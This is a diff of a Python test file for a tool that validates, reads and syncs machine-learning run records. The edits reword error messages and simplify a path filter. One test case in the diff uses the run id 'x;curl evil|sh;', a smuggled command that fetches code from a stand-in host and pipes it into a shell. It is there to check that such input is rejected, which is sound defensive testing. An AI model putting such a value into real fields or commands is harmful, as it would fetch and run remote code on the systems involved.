@@ -105,7 +105,7 @@ UNREADABLE: dict[str, tuple[Spoil, str]] = {
     "resources_a_list": (partial(record, job={"resources": [1]}), "'job.resources' is not an object, but a list"),
     "nodes_a_text": (partial(record, job={"resources": {"nodes": "many"}}), "'job.resources.nodes' is not a whole number"),
     "settings_a_text": (partial(record, plan={"provider_settings": "x"}), "'plan.provider_settings' is not an object"),
-    "another_run": (partial(record, run_id="x;curl evil|sh;"), "holds the record of another run, 'x;curl evil|sh;'"),
+    "another_run": (partial(record, run_id="x;curl evil|sh;"), "holds the run.json of another run, 'x;curl evil|sh;'"),
     "record_deep": (lambda run: deep(run / "run.json"), "its brackets are too deep"),
     "record_70_deep": (partial(record, job=json.loads("[" * 70 + "]" * 70)), "'job'|more than 64 deep"),
     "record_large": (lambda run: raw("run.json", b'{"format": 1, "job": "' + b"x" * (17 << 20) + b'"}', run), "more than 16,777,216 bytes"),
@@ -287,7 +287,7 @@ def test_of_metrics_larger_than_any_training_writes_the_newest_are_shown_and_lon
         file.write(b"\n" + line)
     notes: list[str] = []
     assert [point.step for point in read_metrics(home, BAD, notes.append)] == [2]
-    assert notes == [f"the earliest metrics of {BAD} are left out: at most 2,000,000 values are read, and 256 MiB of an attempt"]
+    assert notes == [f"the earliest metrics of {BAD} are skipped: at most 2,000,000 values are read, and 256 MiB of an attempt"]
     assert glance(home, BAD, record=True).latest == {"train/loss": 1.0}
     assert [progress.latest for progress in follow(home, BAD)] == [{"train/loss": 1.0}]
 
@@ -326,10 +326,10 @@ def test_no_name_of_a_segment_leads_out_of_a_copy_or_ends_the_copying(store: Pat
     run = run_directory(store, BAD)
     write(run / SEGMENTS[form], b"segment")
     adopt(home, str(run))
-    before = {path for path in tmp_path.rglob("*") if not {"copy", "transfers"} & set(path.parts)}
+    before = {path for path in tmp_path.rglob("*") if "copy" not in path.parts}
     synced = sync(home, BAD, tmp_path / "copy" / "inner")
     assert layout.output_log(1) in synced.copied
-    assert {path for path in tmp_path.rglob("*") if not {"copy", "transfers"} & set(path.parts)} == before
+    assert {path for path in tmp_path.rglob("*") if "copy" not in path.parts} == before
     assert [path.name for path in (tmp_path / "copy").iterdir()] == ["inner"]
 
 
